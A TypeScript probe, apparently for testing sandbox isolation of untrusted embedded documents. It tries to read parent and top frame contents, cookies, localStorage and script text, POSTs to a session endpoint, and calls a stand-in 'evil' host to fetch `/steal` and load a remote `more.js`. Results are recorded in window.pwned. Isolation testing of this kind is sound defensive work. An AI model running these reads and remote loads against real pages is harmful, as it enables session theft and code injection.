/** What attackers run in other people's documents. Each stands by itself: it is sent as its source. */

declare global {
  interface Document {
    /** Chromium's; says what a document may do, whether there is a device for it or not. */
    readonly featurePolicy?: { allowedFeatures(): string[] };
  }
}

/** Tries everything that a script in LinkedIn's place could want; `window.pwned` says how it went. */
export function readAll({ backend, evil }: { backend: string; evil: string }): void {
  const attempt = async (run: () => unknown): Promise<string> => {
    try {
      return String(await run());
    } catch (error) {
      return (error as Error).name;
    }
  };
  const more = (): Promise<string> =>
    new Promise((resolve) => {
      const script = document.createElement('script');
      script.src = `${evil}/more.js`;
      script.onerror = () => {
        resolve('blocked');
      };
      script.onload = () => {
        resolve('loaded');
      };
      document.head.append(script);
    });
  const watched = /^(camera|microphone|geolocation|payment|usb|clipboard|fullscreen|display-)/;
  const run = async (): Promise<void> => {
    const texts = Array.from(document.scripts, ({ text }) => text);
    window.pwned = {
      parent: await attempt(() => parent.document.body.innerHTML),
      host: await attempt(() => top?.document.body.innerHTML),
      address: await attempt(() => parent.location.href),
      storage: await attempt(() => localStorage.length),
      cookies: document.cookie,
      texts: texts.join(''),
      api: await attempt(() => fetch(`${backend}/rsc/session`, { method: 'POST' })),
      ownApi: await attempt(() => fetch('/rsc/session', { method: 'POST' })),
      elsewhere: await attempt(() => fetch(`${evil}/steal`)),
      more: await more(),
      features: document.featurePolicy?.allowedFeatures().filter((name) => watched.test(name)),
    };
  };
  void run();
}
